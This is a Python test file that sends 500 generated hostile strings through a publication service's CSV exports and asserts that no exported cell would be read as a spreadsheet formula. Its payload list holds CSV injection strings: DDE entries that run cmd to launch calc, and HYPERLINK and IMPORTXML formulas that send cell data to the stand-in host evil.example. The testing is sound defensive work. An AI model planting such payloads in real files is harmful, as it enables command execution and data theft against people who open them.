"""500 hostile strings through every export: reopened, no cell is a formula (reliability R23)."""

import csv
import io
import itertools
import random

import pytest

from cooperation.publication.reading.service import exporting
from tests.fixtures.rehearsal import OWN
from tests.fixtures.visitor import Page

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("rehearsal")]

COUNT = 500
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
SPACES = ("", " ", "  ", "\u00a0", "\ufeff", "\u200b", "\u202f", "\u3000", " \ufeff\u00a0")
REST = (
    "1+1",
    "cmd|'/c calc'!A1",
    'HYPERLINK("https://evil.example?"&A1,"Click")',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "SUM(1,2)*cmd|' /C calc'!A0",
    '"quoted",=1+1',
    "line\r\n=1+1",
    ";=1+1",
    "\u202e=1",
    'DDE("cmd";"/C calc";"x")',
)
DANGEROUS = frozenset("=+-@\t\r\n\0＝＋－＠")
BLANK = " \u00a0\u202f\u3000\ufeff\u200b"


def hostile_strings() -> list[str]:
    """Return 500 different strings that a spreadsheet might run."""
    made = ["".join(parts) for parts in itertools.product(SPACES, STARTS, REST)]
    random.Random(20261122).shuffle(made)
    return made[:COUNT]


def formulas_in(page: Page) -> list[str]:
    """Return the cells that a spreadsheet would run."""
    text = page.body.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [cell for cell in cells if cell.lstrip(BLANK)[:1] in DANGEROUS and cell.strip(BLANK)]


@pytest.mark.parametrize("visitor", ["focal_point", "officer", "court_reader"])
def test_no_cell_of_an_export_is_a_formula(own_rehearsal, visitor, monkeypatch):
    rehearsal = own_rehearsal
    edition = rehearsal.meaning("edition_id", "open", visitor)
    question = rehearsal.meaning("question", "text", visitor)
    strings = itertools.cycle(hostile_strings())
    sent: list[str] = []

    def hostile(*_: object) -> str:
        sent.append(next(strings))
        return sent[-1]

    monkeypatch.setattr(exporting, "answer_text", hostile)
    found = []
    with rehearsal.keeping():
        for narrowed in ("", f"?state={OWN}", f"?question={question}"):
            while True:
                page = rehearsal.visitors[visitor].get(f"/published/{edition}/export{narrowed}")
                assert page.status == 200, page.text[:300]
                assert page.headers["content-type"].startswith("text/csv")
                found += formulas_in(page)
                if narrowed or len(sent) >= COUNT:
                    break

    assert len(set(sent)) >= COUNT
    assert found == []


def test_the_judge_knows_a_formula():
    page = Page(200, {}, b"\xef\xbb\xbfa,b\r\n=1+1, +2\r\n'=1,x\r\n", "/")

    assert formulas_in(page) == ["=1+1", " +2"]
